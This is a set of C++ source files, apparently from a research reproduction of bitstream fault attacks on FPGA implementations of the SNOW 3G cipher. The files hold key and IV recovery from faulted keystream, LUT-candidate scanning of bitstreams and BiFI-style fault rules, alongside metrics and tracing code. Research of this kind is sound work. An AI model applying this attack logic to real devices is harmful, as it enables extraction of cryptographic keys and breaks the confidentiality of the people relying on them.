  constexpr u32 kOnes = 0xffffffffu;
  // gamma(K, IV) redundancies; any mismatch falsifies the fault hypothesis.
  const bool consistent = s[0] == s[8] && s[0] == (s[4] ^ kOnes) && s[1] == (s[5] ^ kOnes) &&
                          s[2] == (s[6] ^ kOnes) && s[3] == (s[7] ^ kOnes) && s[3] == s[11] &&
                          s[13] == s[5] && s[14] == s[6];
  if (!consistent) return std::nullopt;

  RecoveredSecrets r;
  r.key = {s[4], s[5], s[6], s[7]};
  r.iv[0] = s[15] ^ r.key[3];
  r.iv[1] = s[12] ^ r.key[0];
  r.iv[2] = s[10] ^ kOnes ^ r.key[2];
  r.iv[3] = s[9] ^ kOnes ^ r.key[1];
  return r;
}

std::optional<RecoveredSecrets> recover_from_keystream(std::span<const u32> z16) {
  return extract_key(state_from_faulty_keystream(z16));
}

}  // namespace sbm::snow3g
