#include "snow3g/f8f9.h"

#include <stdexcept>

namespace sbm::snow3g {
namespace {

// GF(2^64) with reduction byte 0x1b (x^64 + x^4 + x^3 + x + 1), as used by
// the UIA2 EVAL polynomial accumulator.
u64 mul64x(u64 v, u64 c) { return (v & 0x8000000000000000ull) ? ((v << 1) ^ c) : (v << 1); }

u64 mul64(u64 v, u64 p, u64 c) {
  u64 result = 0;
  for (int i = 63; i >= 0; --i) {
    result = mul64x(result, c);
    if ((p >> i) & 1) result ^= v;
  }
  return result;
}

}  // namespace

Key to_word_key(const Key128& ck) {
  Key k{};
  // First key byte is the most significant byte of k3 (spec loading order).
  for (int w = 0; w < 4; ++w) {
    const size_t base = static_cast<size_t>(w) * 4;
    k[static_cast<size_t>(3 - w)] =
        from_msb_bytes(ck[base], ck[base + 1], ck[base + 2], ck[base + 3]);
  }
  return k;
}

void f8(const Key128& ck, u32 count, u32 bearer, u32 direction, std::span<u8> data,
        size_t length_bits) {
  if (length_bits > data.size() * 8) throw std::invalid_argument("f8 length exceeds buffer");
  const u32 br_dir = ((bearer & 0x1f) << 27) | ((direction & 1) << 26);
  const Iv iv = {br_dir, count, br_dir, count};  // iv0..iv3
  Snow3g cipher(to_word_key(ck), iv);

  const size_t full_words = length_bits / 32;
  size_t byte_off = 0;
  for (size_t w = 0; w < full_words; ++w) {
    const u32 z = cipher.next();
    for (int b = 0; b < 4; ++b) {
      data[byte_off] = static_cast<u8>(data[byte_off] ^ msb_byte(z, static_cast<unsigned>(b)));
      ++byte_off;
    }
  }
  size_t rem_bits = length_bits % 32;
  if (rem_bits > 0) {
    const u32 z = cipher.next();
    unsigned byte_idx = 0;
    while (rem_bits > 0) {
      const size_t take = std::min<size_t>(8, rem_bits);
      // Mask keeps only the `take` most significant bits of this byte.
      const u8 mask = static_cast<u8>(0xff00u >> take);
      data[byte_off] = static_cast<u8>(data[byte_off] ^ (msb_byte(z, byte_idx) & mask));
      ++byte_off;
      ++byte_idx;
      rem_bits -= take;
    }
  }
}

u32 f9(const Key128& ik, u32 count, u32 fresh, u32 direction, std::span<const u8> message,
       size_t length_bits) {
  if (length_bits > message.size() * 8) throw std::invalid_argument("f9 length exceeds buffer");
  // IV derivation per UIA2: FRESH and COUNT with DIRECTION folded into two
  // fixed bit positions.
  const Iv iv = {fresh ^ ((direction & 1) << 15), count ^ ((direction & 1) << 31), fresh,
                 count};
  Snow3g cipher(to_word_key(ik), iv);
  const std::vector<u32> z = cipher.keystream(5);
  const u64 p = (u64{z[0]} << 32) | z[1];
  const u64 q = (u64{z[2]} << 32) | z[3];
  constexpr u64 kC = 0x1b;

  // D = ceil(LENGTH/64) + 1 blocks; the last carries the bit length.
  const size_t d = (length_bits + 63) / 64 + 1;
  u64 eval = 0;
  for (size_t i = 0; i + 1 < d; ++i) {
    u64 m = 0;
    for (size_t b = 0; b < 8; ++b) {
      const size_t byte_idx = i * 8 + b;
      const u8 v = byte_idx < (length_bits + 7) / 8 ? message[byte_idx] : 0;
      m = (m << 8) | v;
    }
    // Zero any bits of the final partial byte beyond length_bits.
    if ((i + 2) == d && length_bits % 64 != 0) {
      m &= ~0ull << (64 - length_bits % 64);
    }
    eval = mul64(eval ^ m, p, kC);
  }
  eval = mul64(eval ^ static_cast<u64>(length_bits), q, kC);
  return static_cast<u32>(eval >> 32) ^ z[4];
}

}  // namespace sbm::snow3g
