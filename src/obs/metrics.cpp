#include "obs/metrics.h"

#include "common/json.h"

namespace sbm::obs {

namespace detail {

size_t slot_index() {
  static std::atomic<size_t> next{0};
  thread_local const size_t slot = next.fetch_add(1, std::memory_order_relaxed) % kSlots;
  return slot;
}

}  // namespace detail

u64 Histogram::count() const {
  u64 total = 0;
  for (const Slot& s : slots_) {
    for (const auto& b : s.buckets) total += b.load(std::memory_order_relaxed);
  }
  return total;
}

u64 Histogram::sum() const {
  u64 total = 0;
  for (const Slot& s : slots_) total += s.sum.load(std::memory_order_relaxed);
  return total;
}

u64 Histogram::bucket(size_t i) const {
  u64 total = 0;
  for (const Slot& s : slots_) total += s.buckets[i].load(std::memory_order_relaxed);
  return total;
}

void Histogram::reset() {
  for (Slot& s : slots_) {
    for (auto& b : s.buckets) b.store(0, std::memory_order_relaxed);
    s.sum.store(0, std::memory_order_relaxed);
  }
}

std::string MetricsSnapshot::to_json() const {
  JsonWriter w;
  w.begin_object();
  w.key("counters").begin_object();
  for (const auto& [name, value] : counters) w.field(name, value);
  w.end_object();
  w.key("gauges").begin_object();
  for (const auto& [name, value] : gauges) w.field(name, value);
  w.end_object();
  w.key("histograms").begin_object();
  for (const Hist& h : histograms) {
    w.key(h.name).begin_object();
    w.field("count", h.count).field("sum", h.sum);
    w.key("buckets").begin_object();
    for (const auto& [width, count] : h.buckets) {
      // Bucket label: the half-open value range [2^(w-1), 2^w) it covers.
      w.field(width == 0 ? std::string("0") : "<2^" + std::to_string(width), count);
    }
    w.end_object();
    w.end_object();
  }
  w.end_object();
  w.end_object();
  return w.str();
}

MetricsRegistry& MetricsRegistry::global() {
  static MetricsRegistry registry;
  return registry;
}

Counter& MetricsRegistry::counter(std::string_view name) {
  std::lock_guard<std::mutex> lock(mu_);
  auto it = counters_.find(name);
  if (it == counters_.end()) {
    it = counters_.emplace(std::string(name), std::make_unique<Counter>()).first;
  }
  return *it->second;
}

Gauge& MetricsRegistry::gauge(std::string_view name) {
  std::lock_guard<std::mutex> lock(mu_);
  auto it = gauges_.find(name);
  if (it == gauges_.end()) {
    it = gauges_.emplace(std::string(name), std::make_unique<Gauge>()).first;
  }
  return *it->second;
}

Histogram& MetricsRegistry::histogram(std::string_view name) {
  std::lock_guard<std::mutex> lock(mu_);
  auto it = histograms_.find(name);
  if (it == histograms_.end()) {
    it = histograms_.emplace(std::string(name), std::make_unique<Histogram>()).first;
  }
  return *it->second;
}

MetricsSnapshot MetricsRegistry::snapshot() const {
  std::lock_guard<std::mutex> lock(mu_);
  MetricsSnapshot snap;
  for (const auto& [name, c] : counters_) snap.counters.emplace_back(name, c->value());
  for (const auto& [name, g] : gauges_) snap.gauges.emplace_back(name, g->value());
  for (const auto& [name, h] : histograms_) {
    MetricsSnapshot::Hist out;
    out.name = name;
    out.count = h->count();
    out.sum = h->sum();
    for (size_t i = 0; i < Histogram::kBuckets; ++i) {
      const u64 n = h->bucket(i);
      if (n != 0) out.buckets.emplace_back(static_cast<unsigned>(i), n);
    }
    snap.histograms.push_back(std::move(out));
  }
  return snap;
}

void MetricsRegistry::reset() {
  std::lock_guard<std::mutex> lock(mu_);
  for (auto& [name, c] : counters_) c->reset();
  for (auto& [name, g] : gauges_) g->reset();
  for (auto& [name, h] : histograms_) h->reset();
}

}  // namespace sbm::obs
