#include "obs/trace.h"

#include <algorithm>
#include <cstdio>

#include "common/json.h"

namespace sbm::obs {

Tracer::Tracer() : epoch_(std::chrono::steady_clock::now()) {}

Tracer::~Tracer() = default;

Tracer& Tracer::global() {
  static Tracer* tracer = new Tracer();  // leaked: emitters may outlive main
  return *tracer;
}

u64 Tracer::now_us() const {
  return static_cast<u64>(std::chrono::duration_cast<std::chrono::microseconds>(
                              std::chrono::steady_clock::now() - epoch_)
                              .count());
}

Tracer::Buffer& Tracer::local_buffer() {
  // One cached buffer per thread per tracer; re-registers when the thread
  // switches tracers (tests with private instances).  The shared_ptr keeps a
  // buffer alive in the tracer after its thread exits.
  struct Cache {
    Tracer* owner = nullptr;
    std::shared_ptr<Buffer> buffer;
  };
  thread_local Cache cache;
  if (cache.owner != this) {
    auto buffer = std::make_shared<Buffer>();
    buffer->tid = next_tid_.fetch_add(1, std::memory_order_relaxed);
    {
      std::lock_guard<std::mutex> lock(registry_mu_);
      buffers_.push_back(buffer);
    }
    cache.owner = this;
    cache.buffer = std::move(buffer);
  }
  return *cache.buffer;
}

void Tracer::record(TraceEvent e) {
  Buffer& buffer = local_buffer();
  e.tid = buffer.tid;
  std::lock_guard<std::mutex> lock(buffer.mu);
  buffer.events.push_back(e);
}

void Tracer::instant(const char* cat, const char* name,
                     std::initializer_list<std::pair<const char*, u64>> args) {
  if (!trace_enabled()) return;
  TraceEvent e;
  e.cat = cat;
  e.name = name;
  e.ph = 'i';
  e.ts_us = now_us();
  for (const auto& [k, v] : args) {
    if (e.num_args >= TraceEvent::kMaxArgs) break;
    e.args[e.num_args++] = {k, v};
  }
  record(e);
}

std::vector<TraceEvent> Tracer::events() const {
  std::vector<std::shared_ptr<Buffer>> buffers;
  {
    std::lock_guard<std::mutex> lock(registry_mu_);
    buffers = buffers_;
  }
  std::vector<TraceEvent> out;
  for (const auto& buffer : buffers) {
    std::lock_guard<std::mutex> lock(buffer->mu);
    out.insert(out.end(), buffer->events.begin(), buffer->events.end());
  }
  // Chronological file order (ties broken by tid, longer spans first so a
  // parent precedes a child that started the same microsecond).
  std::stable_sort(out.begin(), out.end(), [](const TraceEvent& a, const TraceEvent& b) {
    if (a.ts_us != b.ts_us) return a.ts_us < b.ts_us;
    if (a.tid != b.tid) return a.tid < b.tid;
    return a.dur_us > b.dur_us;
  });
  return out;
}

size_t Tracer::event_count() const {
  std::vector<std::shared_ptr<Buffer>> buffers;
  {
    std::lock_guard<std::mutex> lock(registry_mu_);
    buffers = buffers_;
  }
  size_t total = 0;
  for (const auto& buffer : buffers) {
    std::lock_guard<std::mutex> lock(buffer->mu);
    total += buffer->events.size();
  }
  return total;
}

std::string Tracer::to_chrome_json() const {
  JsonWriter w;
  w.begin_object();
  w.field("displayTimeUnit", "ms");
  w.key("traceEvents").begin_array();
  for (const TraceEvent& e : events()) {
    w.begin_object();
    w.field("name", e.name)
        .field("cat", e.cat)
        .field("ph", std::string(1, e.ph))
        .field("ts", e.ts_us)
        .field("pid", u64{1})
        .field("tid", u64{e.tid});
    if (e.ph == 'X') w.field("dur", e.dur_us);
    if (e.ph == 'i') w.field("s", "t");  // thread-scoped instant
    if (e.num_args != 0) {
      w.key("args").begin_object();
      for (u8 i = 0; i < e.num_args; ++i) w.field(e.args[i].first, e.args[i].second);
      w.end_object();
    }
    w.end_object();
  }
  w.end_array();
  w.end_object();
  return w.str();
}

bool Tracer::write(const std::string& path) const {
  const std::string json = to_chrome_json();
  std::FILE* f = std::fopen(path.c_str(), "wb");
  if (f == nullptr) return false;
  const bool wrote = std::fwrite(json.data(), 1, json.size(), f) == json.size();
  return std::fclose(f) == 0 && wrote;
}

void Tracer::clear() {
  std::vector<std::shared_ptr<Buffer>> buffers;
  {
    std::lock_guard<std::mutex> lock(registry_mu_);
    buffers = buffers_;
  }
  for (const auto& buffer : buffers) {
    std::lock_guard<std::mutex> lock(buffer->mu);
    buffer->events.clear();
  }
}

}  // namespace sbm::obs
