// Lock-light metrics: named counters, gauges and power-of-two histograms
// with per-thread sharded accumulation and a consistent-enough snapshot API.
//
// Write path (Counter::add, Histogram::observe): one relaxed atomic load of
// the mode, then one relaxed fetch_add on a cache-line-padded slot picked by
// a thread-stable shard index — threads in different shards never touch the
// same line, so a 64-way campaign does not serialize on its counters.  No
// mutex is ever taken on the write path; registration (name -> metric) locks
// once per call site, which call sites amortize with a function-local static
// reference (metric addresses are stable for the registry's lifetime).
//
// Read path (value, snapshot): sums the slots with relaxed loads.  Values
// are monotone and exact once writers quiesce; mid-flight snapshots may miss
// in-progress increments, which is fine for reporting.
//
// Relationship to the attack's own accounting: AttackResult/CampaignReport
// fields are the *deterministic* logical record (part of the fingerprint
// contract); the registry is the cross-cutting observability view, gated on
// obs::mode() and never read back by attack logic.
#pragma once

#include <array>
#include <atomic>
#include <map>
#include <memory>
#include <mutex>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "common/bits.h"
#include "obs/obs.h"

namespace sbm::obs {

namespace detail {

constexpr size_t kSlots = 16;

/// Thread-stable shard index in [0, kSlots): consecutive registration order,
/// wrapped.  Two threads may share a slot (the atomics keep that correct);
/// the padding only has to make *typical* pools contention-free.
size_t slot_index();

struct alignas(64) PaddedU64 {
  std::atomic<u64> v{0};
};

}  // namespace detail

class Counter {
 public:
  void add(u64 n = 1) {
    if (!metrics_enabled()) return;
    slots_[detail::slot_index()].v.fetch_add(n, std::memory_order_relaxed);
  }

  u64 value() const {
    u64 total = 0;
    for (const auto& s : slots_) total += s.v.load(std::memory_order_relaxed);
    return total;
  }

  void reset() {
    for (auto& s : slots_) s.v.store(0, std::memory_order_relaxed);
  }

 private:
  std::array<detail::PaddedU64, detail::kSlots> slots_{};
};

/// Last-value metric for low-frequency state (queue depths, cache sizes).
class Gauge {
 public:
  void set(u64 v) {
    if (!metrics_enabled()) return;
    v_.store(v, std::memory_order_relaxed);
  }

  u64 value() const { return v_.load(std::memory_order_relaxed); }
  void reset() { v_.store(0, std::memory_order_relaxed); }

 private:
  std::atomic<u64> v_{0};
};

/// Power-of-two histogram: bucket i counts values v with bit_width(v) == i
/// (bucket 0 is v == 0).  Coarse on purpose — it answers "how big are the
/// oracle batches / probe windows" without per-value storage.
class Histogram {
 public:
  static constexpr size_t kBuckets = 65;

  void observe(u64 v) {
    if (!metrics_enabled()) return;
    Slot& s = slots_[detail::slot_index()];
    s.buckets[bucket_of(v)].fetch_add(1, std::memory_order_relaxed);
    s.sum.fetch_add(v, std::memory_order_relaxed);
  }

  u64 count() const;
  u64 sum() const;
  u64 bucket(size_t i) const;

  void reset();

  static size_t bucket_of(u64 v) {
    size_t b = 0;
    while (v != 0) {
      v >>= 1;
      ++b;
    }
    return b;
  }

 private:
  struct alignas(64) Slot {
    std::array<std::atomic<u64>, kBuckets> buckets{};
    std::atomic<u64> sum{0};
  };
  std::array<Slot, detail::kSlots> slots_{};
};

/// Point-in-time copy of every registered metric, name-sorted.
struct MetricsSnapshot {
  std::vector<std::pair<std::string, u64>> counters;
  std::vector<std::pair<std::string, u64>> gauges;
  struct Hist {
    std::string name;
    u64 count = 0;
    u64 sum = 0;
    /// Non-empty buckets only, as (bit_width, count) in ascending bit_width.
    std::vector<std::pair<unsigned, u64>> buckets;
  };
  std::vector<Hist> histograms;

  std::string to_json() const;
};

class MetricsRegistry {
 public:
  /// Shared process-wide registry; every subsystem emits here.
  static MetricsRegistry& global();

  /// Named metric lookup, creating on first use.  The returned reference is
  /// stable for the registry's lifetime — cache it at the call site.
  Counter& counter(std::string_view name);
  Gauge& gauge(std::string_view name);
  Histogram& histogram(std::string_view name);

  MetricsSnapshot snapshot() const;

  /// Zeroes every value; names stay registered (references stay valid).
  void reset();

 private:
  mutable std::mutex mu_;
  std::map<std::string, std::unique_ptr<Counter>, std::less<>> counters_;
  std::map<std::string, std::unique_ptr<Gauge>, std::less<>> gauges_;
  std::map<std::string, std::unique_ptr<Histogram>, std::less<>> histograms_;
};

}  // namespace sbm::obs
