#include "obs/obs.h"

#include <cstdlib>
#include <string_view>

namespace sbm::obs {

namespace detail {

std::atomic<int> g_mode{-1};

int init_mode_from_env() {
  const char* env = std::getenv("SBM_OBS");
  const std::string_view v = env != nullptr ? env : "";
  int m = static_cast<int>(Mode::kOff);
  if (v == "1" || v == "on" || v == "all") {
    m = static_cast<int>(Mode::kAll);
  } else if (v == "metrics") {
    m = static_cast<int>(Mode::kMetrics);
  } else if (v == "trace") {
    m = static_cast<int>(Mode::kTrace);
  }
  // A racing set_mode() wins: only replace the uninitialized sentinel.
  int expected = -1;
  g_mode.compare_exchange_strong(expected, m, std::memory_order_relaxed);
  return g_mode.load(std::memory_order_relaxed);
}

}  // namespace detail

void set_mode(Mode m) {
  detail::g_mode.store(static_cast<int>(m), std::memory_order_relaxed);
}

}  // namespace sbm::obs
