// Process-wide on/off switch for the observability layer (DESIGN.md §4g).
//
// Everything in src/obs/ is gated on one mode, initialized from the SBM_OBS
// environment variable on first query and overridable programmatically
// (the --trace-out/--metrics-out CLI flags, tests):
//
//   unset / "" / "0" / "off"  ->  kOff      (the default)
//   "metrics"                 ->  kMetrics  (counters/gauges/histograms only)
//   "trace"                   ->  kTrace    (spans/instant events only)
//   "1" / "on" / "all"        ->  kAll
//
// Disabled-mode guarantee: with the mode off, every instrumentation site in
// the hot paths reduces to one relaxed atomic load and a predictable branch
// — no allocation, no locking, no clock read.  bench_attack_e2e measures the
// end-to-end attack with the layer disabled and check_bench_regression.py
// holds it to < 3% of the committed baseline.
//
// The mode is deliberately *not* part of any determinism contract: spans and
// metric values carry wall-clock and physical-layer data, while every
// logical result (attack outcomes, campaign fingerprints) is produced by
// code that never reads them back.
#pragma once

#include <atomic>

namespace sbm::obs {

enum class Mode : int {
  kOff = 0,
  kMetrics = 1,  // bit 0: metrics
  kTrace = 2,    // bit 1: tracing
  kAll = 3,
};

namespace detail {
/// -1 = not yet initialized from the environment.
extern std::atomic<int> g_mode;
int init_mode_from_env();
}  // namespace detail

/// Current mode; first call reads SBM_OBS.
inline Mode mode() {
  const int m = detail::g_mode.load(std::memory_order_relaxed);
  return static_cast<Mode>(m >= 0 ? m : detail::init_mode_from_env());
}

/// Programmatic override (wins over the environment from now on).
void set_mode(Mode m);

inline bool metrics_enabled() {
  return (static_cast<int>(mode()) & static_cast<int>(Mode::kMetrics)) != 0;
}

inline bool trace_enabled() {
  return (static_cast<int>(mode()) & static_cast<int>(Mode::kTrace)) != 0;
}

}  // namespace sbm::obs
