// Span-based tracer emitting Chrome trace_event JSON.
//
// The output loads directly in Perfetto / chrome://tracing: one "X"
// (complete) event per span — attack phases, scan_family shards,
// batch-oracle chunks, campaign trials — and "i" (instant) events for
// point-in-time facts like thread-pool submissions and steal/help-run task
// claims.  Timestamps are microseconds on the steady clock, relative to the
// tracer's construction; tids are small sequential ids assigned per thread
// on first emission.
//
// Write path: events append to a per-thread buffer guarded by a per-buffer
// mutex that only the owning thread and the (rare) snapshot reader ever
// take, so tracing never funnels the pool through one lock.  Span names,
// categories and arg keys are `const char*` by design: instrumentation
// sites pass string literals, the tracer never copies or allocates per
// event beyond the buffer push, and a disabled span is constructed without
// touching the clock (obs::trace_enabled() is one relaxed load).
//
// scripts/check_trace.py validates emitted files against the schema
// (balanced/properly-nested spans, monotone timestamps).
#pragma once

#include <array>
#include <atomic>
#include <chrono>
#include <initializer_list>
#include <memory>
#include <mutex>
#include <string>
#include <utility>
#include <vector>

#include "common/bits.h"
#include "obs/obs.h"

namespace sbm::obs {

struct TraceEvent {
  static constexpr size_t kMaxArgs = 3;

  const char* name = "";  // string literal, not owned
  const char* cat = "";   // string literal, not owned
  char ph = 'X';          // 'X' complete span, 'i' instant
  u64 ts_us = 0;
  u64 dur_us = 0;  // 'X' only
  u32 tid = 0;
  std::array<std::pair<const char*, u64>, kMaxArgs> args{};
  u8 num_args = 0;
};

class Tracer {
 public:
  Tracer();
  ~Tracer();

  Tracer(const Tracer&) = delete;
  Tracer& operator=(const Tracer&) = delete;

  /// Shared process-wide tracer; every subsystem emits here.
  static Tracer& global();

  /// Microseconds since this tracer's construction (steady clock).
  u64 now_us() const;

  /// Appends `e` (tid filled in here) to the calling thread's buffer.
  void record(TraceEvent e);

  /// Emits an instant event at now_us().  No-op while tracing is disabled,
  /// like Span — call sites may still pre-check trace_enabled() to skip
  /// argument computation.
  void instant(const char* cat, const char* name,
               std::initializer_list<std::pair<const char*, u64>> args = {});

  /// All events so far, merged across threads and sorted by (ts, tid).
  std::vector<TraceEvent> events() const;
  size_t event_count() const;

  /// {"traceEvents": [...]} — the Chrome trace_event JSON document.
  std::string to_chrome_json() const;
  /// Writes to_chrome_json() to `path`; false on I/O error.
  bool write(const std::string& path) const;

  /// Drops every recorded event (buffers stay registered).
  void clear();

 private:
  struct Buffer {
    std::mutex mu;
    std::vector<TraceEvent> events;
    u32 tid = 0;
  };

  Buffer& local_buffer();

  std::chrono::steady_clock::time_point epoch_;
  mutable std::mutex registry_mu_;
  std::vector<std::shared_ptr<Buffer>> buffers_;
  std::atomic<u32> next_tid_{1};
};

/// RAII complete-event span on the global tracer.  When tracing is disabled
/// the constructor is a relaxed load and a branch — no clock read, nothing
/// recorded.  Arguments must be attached while the span is open.
class Span {
 public:
  Span(const char* cat, const char* name) {
    if (!trace_enabled()) return;
    active_ = true;
    event_.cat = cat;
    event_.name = name;
    event_.ts_us = Tracer::global().now_us();
  }

  Span(const char* cat, const char* name, const char* k0, u64 v0) : Span(cat, name) {
    arg(k0, v0);
  }

  Span(const char* cat, const char* name, const char* k0, u64 v0, const char* k1, u64 v1)
      : Span(cat, name, k0, v0) {
    arg(k1, v1);
  }

  ~Span() {
    if (!active_) return;
    Tracer& t = Tracer::global();
    event_.dur_us = t.now_us() - event_.ts_us;
    t.record(event_);
  }

  Span(const Span&) = delete;
  Span& operator=(const Span&) = delete;

  void arg(const char* key, u64 value) {
    if (!active_ || event_.num_args >= TraceEvent::kMaxArgs) return;
    event_.args[event_.num_args++] = {key, value};
  }

 private:
  TraceEvent event_{};
  bool active_ = false;
};

}  // namespace sbm::obs
