#include "attack/scan.h"

#include "attack/scan_engine.h"
#include "bitstream/lut_coding.h"
#include "runtime/parallel.h"

namespace sbm::attack {

using logic::Candidate;
using logic::TargetPath;

std::vector<FamilyCount> scan_family(std::span<const u8> bitstream,
                                     const std::vector<Candidate>& family,
                                     const FindLutOptions& options) {
  if (options.legacy_scan) return scan_family_legacy(bitstream, family, options);
  std::vector<logic::TruthTable6> functions;
  functions.reserve(family.size());
  for (const Candidate& c : family) functions.push_back(c.function);
  const auto index = shared_pattern_index(functions, options);
  auto per_candidate = scan_all(bitstream, *index, options);

  std::vector<FamilyCount> out;
  out.reserve(family.size());
  for (size_t c = 0; c < family.size(); ++c) {
    out.push_back({family[c], std::move(per_candidate[c])});
  }
  return out;
}

std::vector<FamilyCount> scan_family_legacy(std::span<const u8> bitstream,
                                            const std::vector<Candidate>& family,
                                            const FindLutOptions& options) {
  std::vector<FamilyCount> out;
  out.reserve(family.size());
  const size_t min_size =
      (bitstream::kSubVectors - 1) * options.offset_d + bitstream::kChunkBytes;
  const size_t positions = bitstream.size() < min_size ? 0 : bitstream.size() - min_size + 1;
  const size_t shards = runtime::shard_count(options.pool, positions, options.shard_grain);

  // The pattern precompute is hoisted out of the scan loops on both paths:
  // one build per candidate, shared read-only by every range shard.
  auto patterns = runtime::parallel_map(options.pool, family.size(), [&](size_t c) {
    return precompute_patterns(family[c].function);
  });

  if (shards <= 1) {
    // Serial reference path (also taken for tiny bitstreams).
    FindLutOptions serial = options;
    serial.pool = nullptr;
    for (size_t c = 0; c < family.size(); ++c) {
      out.push_back({family[c], find_lut_range(bitstream, patterns[c], 0, positions, serial)});
    }
    return out;
  }

  // Two-level sharding: the unit of work is (candidate, byte-range); shard
  // outputs concatenate in range order, so the result is byte-identical to
  // the serial scan for any thread count.
  const size_t tasks = family.size() * shards;
  auto pieces = runtime::parallel_map(
      options.pool, tasks,
      [&](size_t t) {
        const size_t c = t / shards;
        const size_t s = t % shards;
        return find_lut_range(bitstream, patterns[c], positions * s / shards,
                              positions * (s + 1) / shards, options);
      },
      /*min_grain=*/1);
  for (size_t c = 0; c < family.size(); ++c) {
    FamilyCount fc;
    fc.candidate = family[c];
    for (size_t s = 0; s < shards; ++s) {
      auto& part = pieces[c * shards + s];
      fc.matches.insert(fc.matches.end(), part.begin(), part.end());
    }
    out.push_back(std::move(fc));
  }
  return out;
}

const std::vector<Candidate>& attack_family() {
  static const std::vector<Candidate> family = [] {
    std::vector<Candidate> f = logic::table2_family();
    auto extend = [&f](std::vector<Candidate> more) {
      for (auto& c : more) {
        bool dup = false;
        for (const auto& e : f) dup = dup || e.function == c.function;
        if (!dup) f.push_back(std::move(c));  // skip duplicates of Table II
      }
    };
    // z_t path: 3-input XOR under 0..3 controls.
    for (unsigned ctrl = 0; ctrl <= 3; ++ctrl) {
      extend(logic::gated_xor_family(3, ctrl, 0, TargetPath::kKeystream));
    }
    // Feedback path: plain XORs (v merged with the adder sum), init-gated
    // XORs, and gated XORs with pass-through tree fragments.
    for (unsigned arity = 2; arity <= 4; ++arity) {
      extend(logic::gated_xor_family(arity, 0, 0, TargetPath::kFeedback));
      for (unsigned ctrl = 1; ctrl + arity <= 6; ++ctrl) {
        for (unsigned pass = 0; pass + ctrl + arity <= 6 && pass <= 2; ++pass) {
          extend(logic::gated_xor_family(arity, ctrl, pass, TargetPath::kFeedback));
        }
      }
    }
    return f;
  }();
  return family;
}

const std::vector<Candidate>& mux_scan_family() {
  static const std::vector<Candidate> family = [] {
    std::vector<Candidate> f = logic::mux_family();
    for (auto& c : logic::mux_fold_family()) f.push_back(c);
    return f;
  }();
  return family;
}

namespace {

std::vector<Candidate> filter_path(TargetPath path) {
  std::vector<Candidate> out;
  for (const Candidate& c : attack_family()) {
    if (c.path == path) out.push_back(c);
  }
  return out;
}

}  // namespace

const std::vector<Candidate>& keystream_family() {
  static const std::vector<Candidate> family = filter_path(TargetPath::kKeystream);
  return family;
}

const std::vector<Candidate>& feedback_family() {
  static const std::vector<Candidate> family = filter_path(TargetPath::kFeedback);
  return family;
}

void warm_scan_indexes(const FindLutOptions& options) {
  for (const std::vector<Candidate>* family :
       {&keystream_family(), &mux_scan_family(), &feedback_family()}) {
    std::vector<logic::TruthTable6> functions;
    functions.reserve(family->size());
    for (const Candidate& c : *family) functions.push_back(c.function);
    shared_pattern_index(functions, options);
  }
}

}  // namespace sbm::attack
