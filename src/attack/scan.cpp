#include "attack/scan.h"

namespace sbm::attack {

using logic::Candidate;
using logic::TargetPath;

std::vector<FamilyCount> scan_family(std::span<const u8> bitstream,
                                     const std::vector<Candidate>& family,
                                     const FindLutOptions& options) {
  std::vector<FamilyCount> out;
  out.reserve(family.size());
  for (const Candidate& c : family) {
    out.push_back({c, find_lut(bitstream, c.function, options)});
  }
  return out;
}

const std::vector<Candidate>& attack_family() {
  static const std::vector<Candidate> family = [] {
    std::vector<Candidate> f = logic::table2_family();
    auto extend = [&f](std::vector<Candidate> more) {
      for (auto& c : more) {
        bool dup = false;
        for (const auto& e : f) dup = dup || e.function == c.function;
        if (!dup) f.push_back(std::move(c));  // skip duplicates of Table II
      }
    };
    // z_t path: 3-input XOR under 0..3 controls.
    for (unsigned ctrl = 0; ctrl <= 3; ++ctrl) {
      extend(logic::gated_xor_family(3, ctrl, 0, TargetPath::kKeystream));
    }
    // Feedback path: plain XORs (v merged with the adder sum), init-gated
    // XORs, and gated XORs with pass-through tree fragments.
    for (unsigned arity = 2; arity <= 4; ++arity) {
      extend(logic::gated_xor_family(arity, 0, 0, TargetPath::kFeedback));
      for (unsigned ctrl = 1; ctrl + arity <= 6; ++ctrl) {
        for (unsigned pass = 0; pass + ctrl + arity <= 6 && pass <= 2; ++pass) {
          extend(logic::gated_xor_family(arity, ctrl, pass, TargetPath::kFeedback));
        }
      }
    }
    return f;
  }();
  return family;
}

const std::vector<Candidate>& mux_scan_family() {
  static const std::vector<Candidate> family = [] {
    std::vector<Candidate> f = logic::mux_family();
    for (auto& c : logic::mux_fold_family()) f.push_back(c);
    return f;
  }();
  return family;
}

}  // namespace sbm::attack
