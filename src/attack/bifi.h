// BiFI-style untargeted bitstream fault injection — the baseline the paper
// builds on (Swierczynski et al., "Bitstream Fault Injections (BiFI) —
// Automated Fault Attacks against SRAM-based FPGAs" [23]).
//
// BiFI needs no reverse engineering: it applies a small set of generic
// rules to every LUT in turn (clear it, set it, invert it, ...) and checks
// whether the faulted device output becomes cryptographically exploitable.
// For a stream cipher, "exploitable" means the keystream collapses to
// something key-recoverable: here, a sequence consistent with the pure
// LFSR (so the Section VI-A reversal applies) or a constant/stuck output.
//
// The experiment contrasts the two attack philosophies:
//   * BiFI flips one LUT at a time: single faults cannot cut the FSM word
//     on all 32 bit positions at once, so against SNOW 3G it burns
//     (#rules x #LUTs) reconfigurations without recovering the key.
//   * The paper's targeted attack spends its reconfigurations on
//     verification of FINDLUT candidates and succeeds.
#pragma once

#include <optional>
#include <string>
#include <vector>

#include "attack/findlut.h"
#include "attack/oracle.h"
#include "snow3g/reverse.h"

namespace sbm::attack {

/// The generic BiFI manipulation rules (subset of [23], Table 2).
enum class BifiRule : u8 {
  kClearLut,       // T1: LUT <- 0x0000000000000000
  kSetLut,         // T2: LUT <- 0xFFFFFFFFFFFFFFFF
  kInvertLut,      // T3: LUT <- ~LUT
  kSetHighHalf,    // T4: O6 half <- 0xFFFFFFFF
  kClearHighHalf,  // T5: O6 half <- 0x00000000
};

const std::vector<BifiRule>& all_bifi_rules();

/// Applies a rule to the 64-bit INIT value.
u64 apply_bifi_rule(u64 init, BifiRule rule);

struct BifiResult {
  bool success = false;          // a key-recovering fault was found
  size_t configurations = 0;     // bitstreams loaded into the device
  size_t rejected = 0;           // bitstreams the device refused (dead logic)
  size_t interesting = 0;        // faults that changed the keystream
  std::optional<snow3g::RecoveredSecrets> secrets;
  std::string winning_description;
};

struct BifiOptions {
  size_t words = 16;
  FindLutOptions find;  // supplies the chunk stride d
  /// Stop after this many device configurations (a real BiFI campaign is
  /// bounded by lab time).
  size_t max_configurations = 50000;
};

